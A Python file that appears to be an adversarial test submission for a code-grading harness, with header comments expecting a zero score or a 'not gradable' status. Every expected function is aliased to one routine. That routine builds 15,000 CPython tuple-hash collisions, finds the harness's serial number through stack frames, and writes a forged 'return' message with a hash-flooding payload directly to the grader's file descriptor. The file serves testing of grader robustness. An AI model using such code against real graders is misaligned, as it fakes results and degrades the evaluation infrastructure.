#: says = "The same with tuples, whose hashes are known in advance."
#: at_most = 0.0
#: status = ["graded", "not_gradable"]
import os
import struct
import sys

import msgpack

# CPython's tuple hash (xxHash): for every first item there is a second that leads to the same hash.
MASK, P1, P2, P5 = 2**64 - 1, 11400714785074694791, 14029467366897019727, 2870177450012600261


def rotate(x):
    return ((x << 31) | (x >> 33)) & MASK


def collisions(count):
    inverse, target, first, found = pow(P2, -1, 2**64), 12345, 0, []
    while len(found) < count:
        first += 1
        state = rotate((P5 + first * P2) & MASK) * P1 & MASK
        second = (target - state) * inverse & MASK
        if second < 2**61 - 1:
            found.append((first, second))
    return found


KEYS = b"".join(msgpack.packb(msgpack.ExtType(1, msgpack.packb(list(pair)))) + b"\x01" for pair in collisions(15_000))


def forge(*args, **kwargs):
    caller = sys._getframe()
    while not isinstance(caller.f_locals.get("serial"), int):
        caller = caller.f_back
    body = msgpack.packb([caller.f_locals["serial"], "return", 0])[:-1] + b"\xdf" + struct.pack(">I", 15_000) + KEYS
    data = memoryview(struct.pack("<II", len(body), 0) + body)
    while data:
        data = data[os.write(3, data) :]


truth_table = mp_neuron = gate = literal_clause = xor_network = is_representable = forge
